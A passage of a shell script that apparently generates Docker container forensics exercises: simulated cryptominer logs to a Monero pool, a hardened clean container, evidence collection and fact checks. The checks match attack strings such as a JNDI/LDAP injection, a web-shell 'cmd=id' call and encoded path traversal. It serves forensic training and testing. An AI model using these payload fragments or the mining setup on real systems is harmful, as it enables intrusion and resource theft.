xm "net      new job from pool.supportxmr.com:443 diff 10000 algo rx/0 height 3287515 (31 tx)"
xm "cpu      accepted (2/0) diff 10000 (96 ms)"
job 8815 2107
xm "miner    speed 10s/60s/15m 1398.2 1405.9 n/a H/s max 1433.0 H/s"
xm "cpu      accepted (3/0) diff 10000 (101 ms)"
sleep 1.5   # let tail -F forward the last lines
stopped batch-worker

# ================================================================ 5. clean
d run -d --name status-page --network none \
    --user 1000:1000 --read-only --tmpfs /tmp:rw,noexec,nosuid,size=8m \
    --cap-drop ALL --security-opt no-new-privileges \
    --memory 64m --memory-swap 64m --cpus 0.5 --pids-limit 64 \
    --restart on-failure:3 \
    --log-driver json-file --log-opt max-size=10m --log-opt max-file=3 \
    acme/status-page:1.2.0 >/dev/null
waitlog status-page 'httpd on'; running status-page
echo "scenario clean: container $(d inspect --format '{{.Id}}' status-page)"
SP=http://status.acme.example
for i in 1 2 3 4; do
    acc status-page /tmp/httpd/access.log 198.51.100.23 "GET /" 200 121 "$CHROME"
    acc status-page /tmp/httpd/access.log 198.51.100.23 "GET /status.json" 200 16 "$CHROME" "$SP/"
    acc status-page /tmp/httpd/access.log 198.51.100.41 "GET /" 200 121 "$IPHONE"
    acc status-page /tmp/httpd/access.log 192.0.2.15 "GET /status.json" 200 16 "$FIREFOX"
    [ "$(d inspect --format '{{.State.Health.Status}}' status-page)" = healthy ] && [ $i -ge 2 ] && break
done
for _ in $(seq 1 30); do [ "$(d inspect --format '{{.State.Health.Status}}' status-page)" = healthy ] && break; sleep 1; done
[ "$(d inspect --format '{{.State.Health.Status}}' status-page)" = healthy ] || { d inspect status-page; exit 1; }
# ordinary traffic until at least three health probes have passed (about 15 s)
for _ in $(seq 1 40); do
    [ "$(d inspect --format '{{len .State.Health.Log}}' status-page)" -ge 3 ] && break
    acc status-page /tmp/httpd/access.log 198.51.100.77 "GET /" 200 121 "$FIREFOX"
    acc status-page /tmp/httpd/access.log 198.51.100.77 "GET /status.json" 200 16 "$FIREFOX" "$SP/"
    acc status-page /tmp/httpd/access.log 198.51.100.41 "GET /status.json" 200 16 "$IPHONE"
done
[ "$(d inspect --format '{{.State.Health.Status}} {{.State.Health.FailingStreak}}' status-page)" = "healthy 0" ]
sleep 1.5   # let tail -F forward the last lines
stopped status-page

# ---------------------------------------------------------------- stop, then collect as an examiner would
# (each container was stopped right after its story, so its log covers its whole run time)
for c in $CONTAINERS; do [ "$(d inspect --format '{{.State.Running}} {{.State.ExitCode}}' "$c")" = "false 0" ]; done

declare -A CNAME=([webapp]=webapp [escape]=node-agent [cryptojacking]=batch-worker [clean]=status-page)
declare -A IMAGE=([webapp]=acme/webapp:1.4 [supplychain]=nodetools/builder:18.19 [escape]=acme/node-agent:0.9
                  [cryptojacking]=acme/batch-worker:1.8 [clean]=acme/status-page:1.2.0)
for s in $SCENARIOS; do
    o="$OUT/$s"
    mkdir -p "$o"
    rm -f "$o/$s"-*
    d image inspect "${IMAGE[$s]}" >"$o/$s-image-inspect.json"
    d save "${IMAGE[$s]}" | gzip -9 -n >"$o/$s-image.tar.gz"
    c=${CNAME[$s]:-}
    [ -n "$c" ] || continue
    d inspect "$c" >"$o/$s-inspect.json"
    d export "$c" | gzip -9 -n >"$o/$s-export.tar.gz"
    d diff "$c" >"$o/$s-diff.txt"
    d logs --timestamps "$c" >"$o/$s-logs.txt" 2>&1
    cp "$(d inspect --format '{{.LogPath}}' "$c")" "$o/$s-json.log"
    d inspect --format '{{.Id}} {{.Image}}' "$c" >"$W/ids-$s"
done

# the daemon goes down before the data root is copied (a seized host)
kill "$DPID"
for _ in $(seq 1 30); do kill -0 "$DPID" 2>/dev/null || break; sleep 1; done
kill -0 "$DPID" 2>/dev/null && { echo "dockerd did not stop" >&2; exit 1; }
wait "$DPID" 2>/dev/null || true
DPID=

# one data root tarball per container scenario, holding only what belongs to it: the
# container, its image and the image's parent chain (imagedb, layerdb, repositories.json
# reduced to those tags), the layer folders (diff, link, lower; not work/merged), the
# container's upper and init folders, their short links, and the (empty) volume store
for s in webapp escape cryptojacking clean; do
    read -r cid iid <"$W/ids-$s"
    st="$W/stage-$s"
    mkdir -p "$st/docker/image/overlay2"
    $PY - "$W" "$cid" "$iid" "$st" <<'EOF'
import json, os, sys
W, cid, iid, st = sys.argv[1:]
DR = os.path.join(W, "docker")
img = os.path.join(DR, "image/overlay2")
rel = lambda p: os.path.relpath(p, W)
rd = lambda p: open(p).read().strip()
ids, i = [], iid.split(":")[1]
while i:
    ids.append(i)
    p = os.path.join(img, "imagedb/metadata/sha256", i, "parent")
    i = rd(p).split(":")[1] if os.path.exists(p) else None
cfg = json.load(open(os.path.join(img, "imagedb/content/sha256", ids[0])))
import hashlib
chain = []
for did in cfg["rootfs"]["diff_ids"]:
    chain.append(did if not chain else "sha256:" + hashlib.sha256((chain[-1] + " " + did).encode()).hexdigest())
dirs = ["docker", "docker/containers", "docker/image", "docker/image/overlay2",
        "docker/image/overlay2/imagedb", "docker/image/overlay2/imagedb/content",
        "docker/image/overlay2/imagedb/content/sha256", "docker/image/overlay2/imagedb/metadata",
        "docker/image/overlay2/imagedb/metadata/sha256", "docker/image/overlay2/layerdb",
        "docker/image/overlay2/layerdb/sha256", "docker/image/overlay2/layerdb/mounts",
        "docker/overlay2", "docker/overlay2/l"]
members = [rel(os.path.join(DR, "containers", cid))]
for i in ids:
    members.append(rel(os.path.join(img, "imagedb/content/sha256", i)))
    if os.path.isdir(os.path.join(img, "imagedb/metadata/sha256", i)):
        members.append(rel(os.path.join(img, "imagedb/metadata/sha256", i)))
ov = []
for c in chain:
    ldb = os.path.join(img, "layerdb/sha256", c.split(":")[1])
    members.append(rel(ldb))
    ov.append(rd(os.path.join(ldb, "cache-id")))
mnt = os.path.join(img, "layerdb/mounts", cid)
members.append(rel(mnt))
ov += [rd(os.path.join(mnt, "mount-id")), rd(os.path.join(mnt, "init-id"))]
for o in ov:
    base = os.path.join(DR, "overlay2", o)
    dirs.append(rel(base))
    for f in ("diff", "link", "lower"):
        if os.path.lexists(os.path.join(base, f)):
            members.append(rel(os.path.join(base, f)))
    if os.path.exists(os.path.join(base, "link")):
        members.append(rel(os.path.join(DR, "overlay2/l", rd(os.path.join(base, "link")))))
for extra in ("image/overlay2/distribution", "volumes", "engine-id"):
    if os.path.lexists(os.path.join(DR, extra)):
        members.append(rel(os.path.join(DR, extra)))
repos = json.load(open(os.path.join(img, "repositories.json")))
keep = {"sha256:" + i for i in ids}
out = {"Repositories": {}}
for name, tags in repos["Repositories"].items():
    t = {k: v for k, v in tags.items() if v in keep}
    if t:
        out["Repositories"][name] = t
with open(os.path.join(st, "docker/image/overlay2/repositories.json"), "w") as f:
    json.dump(out, f, separators=(",", ":"))
os.utime(os.path.join(st, "docker/image/overlay2/repositories.json"),
         (os.stat(os.path.join(img, "repositories.json")).st_mtime,) * 2)
open(os.path.join(st, "dirs"), "w").write("\n".join(dirs) + "\n")
open(os.path.join(st, "members"), "w").write("\n".join(members) + "\n")
EOF
    T=(--xattrs --xattrs-include='*' --numeric-owner --format=posix --sort=name)
    tar -C "$W" "${T[@]}" --no-recursion -cf "$W/dataroot-$s.tar" -T "$st/dirs"
    tar -C "$W" "${T[@]}" -rf "$W/dataroot-$s.tar" -T "$st/members"
    tar -C "$st" "${T[@]}" -rf "$W/dataroot-$s.tar" docker/image/overlay2/repositories.json
    gzip -9 -n -c "$W/dataroot-$s.tar" >"$OUT/$s/$s-dataroot.tar.gz"
done

# ---------------------------------------------------------------- checks and facts
env DS_version="$SERVER_VERSION" DS_driver="$DRIVER" DS_base_sha="$BASE_SHA" DS_wallet="$WALLET" \
    DS_revshell="$REVSHELL" DS_c2="$C2" DS_scanner="$SCANNER" \
    $PY - "$OUT" "$W" <<'EOF'
import datetime, gzip, hashlib, io, json, os, sys, tarfile
out, W = sys.argv[1:]
V = {k[3:]: v for k, v in os.environ.items() if k.startswith("DS_")}
sha = lambda b: "sha256:" + hashlib.sha256(b).hexdigest()
iso = lambda t: datetime.datetime.fromtimestamp(float(t), datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
norm = lambda n: "/" + n.strip("/").removeprefix("./")

def image_files(path):
    """path -> (layer index, TarInfo, bytes) of the top-most layer holding it"""
    files = {}
    with tarfile.open(path) as t:
        m = json.load(t.extractfile("manifest.json"))[0]
        cfg_bytes = t.extractfile(m["Config"]).read()
        cfg = json.loads(cfg_bytes)
        for i, (name, did) in enumerate(zip(m["Layers"], cfg["rootfs"]["diff_ids"])):
            b = t.extractfile(name).read()
            assert sha(b) == did, name
            lt = tarfile.open(fileobj=io.BytesIO(b))
            for e in lt.getmembers():
                files[norm(e.name)] = (i, e, lt.extractfile(e).read() if e.isreg() else b"")
    return m, cfg, cfg_bytes, files

for s in ["webapp", "supplychain", "escape", "cryptojacking", "clean"]:
    d = os.path.join(out, s)
    exp = json.load(open(os.path.join(d, "expected.json")))
    for f in exp["evidence"]:
        assert os.path.exists(os.path.join(d, f)), (s, f)
    facts = []
    F = lambda k, v: facts.append((k, str(v).lower() if isinstance(v, bool) else v))
    F("docker_version", V["version"]); F("storage_driver", V["driver"]); F("base_import_tar_sha256", V["base_sha"])
    m, cfg, cfg_bytes, ifiles = image_files(os.path.join(d, s + "-image.tar.gz"))
    ii = json.load(open(os.path.join(d, s + "-image-inspect.json")))[0]
    assert sha(cfg_bytes) == ii["Id"]
    F("image_ref", m["RepoTags"][0]); F("image_id", ii["Id"]); F("image_created", cfg["created"])
    F("image_user", cfg["config"].get("User", "")); F("layer_count", len(m["Layers"]))
    F("base_layer_is_import_tar", cfg["rootfs"]["diff_ids"][0] == V["base_sha"])
    for h in cfg["history"]:
        F("history", ("(empty) " if h.get("empty_layer") else "") + (h.get("created_by") or "(import) " + h.get("comment", ""))[:200])
    planted = sorted({f["path"] for f in exp["findings"] if f.get("path")})
    if s == "supplychain":
        for p in planted:
            i, e, b = ifiles[p]
            F("planted", "%s %s %d %04o %s image-layer:%d" % (p, sha(b), len(b), e.mode & 0o7777, iso(e.mtime), i))
    else:
        ins = json.load(open(os.path.join(d, s + "-inspect.json")))[0]
        hc = ins["HostConfig"]
        assert ins["Image"] == ii["Id"]
        F("container_id", ins["Id"]); F("container_name", ins["Name"]); F("container_created", ins["Created"])
        F("container_started", ins["State"]["StartedAt"]); F("container_finished", ins["State"]["FinishedAt"])
        F("container_exit_code", ins["State"]["ExitCode"]); F("privileged", hc["Privileged"])
        F("user", ins["Config"]["User"]); F("readonly_rootfs", hc["ReadonlyRootfs"])
        F("cap_add", json.dumps(hc["CapAdd"])); F("cap_drop", json.dumps(hc["CapDrop"]))
        F("security_opt", json.dumps(hc["SecurityOpt"])); F("apparmor_profile", ins["AppArmorProfile"])
        F("memory", hc["Memory"]); F("nano_cpus", hc["NanoCpus"]); F("pids_limit", json.dumps(hc["PidsLimit"]))
        F("restart_policy", "%s:%d" % (hc["RestartPolicy"]["Name"], hc["RestartPolicy"]["MaximumRetryCount"]))
        F("health", (ins["State"].get("Health") or {}).get("Status", "none"))
        for mp in sorted(ins["Mounts"], key=lambda mp: mp["Destination"]):
            F("mount", "%s %s -> %s rw=%s" % (mp["Type"], mp["Source"], mp["Destination"], str(mp["RW"]).lower()))
        with tarfile.open(os.path.join(d, s + "-export.tar.gz")) as ex:
            exm = {norm(e.name): e for e in ex.getmembers()}
            for p in planted:
                e = exm[p]
                b = ex.extractfile(e).read() if e.isreg() else b""
                F("planted", "%s %s %d %04o %s export" % (p, sha(b) if e.isreg() else "dir", len(b), e.mode & 0o7777, iso(e.mtime)))
            F("export_member_count", len(exm))
        diff = sorted(l.rstrip("\n") for l in open(os.path.join(d, s + "-diff.txt")) if l.strip())
        for l in sorted(diff, key=lambda l: l[2:]):
            F("diff", l)
        F("diff_count", len(diff))
        for p in planted:
            assert "A " + p in diff or "C " + p in diff, (s, p, "not in docker diff")
        rows = [json.loads(l) for l in open(os.path.join(d, s + "-json.log"))]
        F("json_log_lines", len(rows)); F("json_log_first", rows[0]["time"]); F("json_log_last", rows[-1]["time"])
        F("json_log_stdout_lines", sum(1 for r in rows if r["stream"] == "stdout"))
        with tarfile.open(os.path.join(d, s + "-dataroot.tar.gz")) as dr:
            names = dr.getnames()
            cdir = "docker/containers/" + ins["Id"]
            for f in ("config.v2.json", "hostconfig.json", ins["Id"] + "-json.log"):
                assert cdir + "/" + f in names, (s, f)
            mid = dr.extractfile("docker/image/overlay2/layerdb/mounts/%s/mount-id" % ins["Id"]).read().decode()
            F("container_mount_id", mid); F("dataroot_upper_dir", "docker/overlay2/%s/diff" % mid)
            repos = json.load(dr.extractfile("docker/image/overlay2/repositories.json"))
            F("dataroot_tags", ",".join(sorted(t for v in repos["Repositories"].values() for t in v)))
            F("dataroot_member_count", len(names))
            upper = "docker/overlay2/%s/diff" % mid
            for p in planted:
                assert upper + p in names, (s, p, "not in the upper dir")
            n_cont = sum(1 for n in names if n.count("/") == 2 and n.startswith("docker/containers/"))
            assert n_cont == 1, (s, "containers in data root", n_cont)
    with open(os.path.join(d, s + "-facts.txt"), "w") as f:
        f.write("# written by make.sh; key=value, one a line; keys may repeat (history, diff, planted, mount)\n")
        f.write("# planted=<path> <sha256> <size> <mode> <mtime UTC> <where it is>\n")
        for k, v in facts:
            f.write("%s=%s\n" % (k, v))
    print("%s: checks ok, %d facts" % (s, len(facts)))

# scenario-specific checks
j = lambda s: [json.loads(l)["log"] for l in open(os.path.join(out, s, s + "-json.log"))]
assert any("${jndi:ldap://" in l for l in j("webapp")) and any("/shell.php?cmd=id" in l for l in j("webapp"))
assert any("..%2f..%2f" in l for l in j("webapp"))
assert any("use pool pool.supportxmr.com:443" in l for l in j("cryptojacking"))
assert any("speed 10s/60s/15m" in l for l in j("cryptojacking")) and any("accepted (1/0) diff 10000" in l for l in j("cryptojacking"))
cl = j("clean")
assert all('" 200 ' in l for l in cl if "HTTP/1.1" in l) and sum("HTTP/1.1" in l for l in cl) >= 8
assert open(os.path.join(out, "clean", "clean-diff.txt")).read().strip() == ""
esc = json.load(open(os.path.join(out, "escape", "escape-inspect.json")))[0]
assert esc["HostConfig"]["Privileged"] and esc["HostConfig"]["Runtime"] == "runc"
assert any(m["Destination"] == "/var/run/docker.sock" for m in esc["Mounts"])
cln = json.load(open(os.path.join(out, "clean", "clean-inspect.json")))[0]["HostConfig"]
assert cln["ReadonlyRootfs"] and cln["CapDrop"] == ["ALL"] and cln["Memory"] and cln["PidsLimit"] == 64
print("scenario checks ok")
EOF

chmod -R a+rX "$OUT"
for s in $SCENARIOS; do du -sh "$OUT/$s"; done
du -sh "$OUT"
